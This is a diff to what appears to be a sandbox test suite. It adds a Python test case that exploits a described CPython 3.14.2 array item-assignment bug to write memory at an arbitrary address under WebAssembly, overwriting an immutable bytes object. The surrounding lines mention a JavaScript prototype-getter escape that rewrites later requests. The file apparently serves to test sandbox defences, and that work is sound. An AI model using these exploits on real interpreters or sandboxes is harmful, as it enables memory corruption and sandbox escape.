@@ -790,6 +790,33 @@ def _attack(*args, **kwargs):
 
 ${NAMES.map((n) => `${n} = _attack`).join("\n")}
 `,
+  // A memory-safety bug of CPython 3.14.2: array's item assignment checks the index, then converts the
+  // value, whose __index__ empties the array; the store then writes at NULL + index * 4, any address of the
+  // WebAssembly memory. Here it rewrites an immutable bytes object; in earnest, anything.
+  "array item assignment writes any address": `import sys
+def _attack(*args, **kwargs):
+    reached = []
+    try:
+        import array
+        target = b"A" * 64
+        addr = id(target) + 16
+        a = array.array("I", [0]) * (addr // 4 + 1)
+        class E:
+            def __index__(self):
+                del a[:]
+                return 0x42424242
+        if sys.platform == "emscripten":
+            a[addr // 4] = E()
+        if target.startswith(b"BBBB"):
+            reached.append("a write to an immutable bytes object")
+    except Exception:
+        pass
+    if reached:
+        raise RuntimeError(f"reached {reached}")
+    return [0.0]
+
+${NAMES.map((n) => `${n} = _attack`).join("\n")}
+`,
   // A second _imp gives the original create_builtin, then _pyodide_core, then a JavaScript Object whose
   // prototype gets a getter that rewrites the next run's request (and reads its recorded values).
   "JavaScript prototype getter": `import sys, importlib, importlib.machinery as m
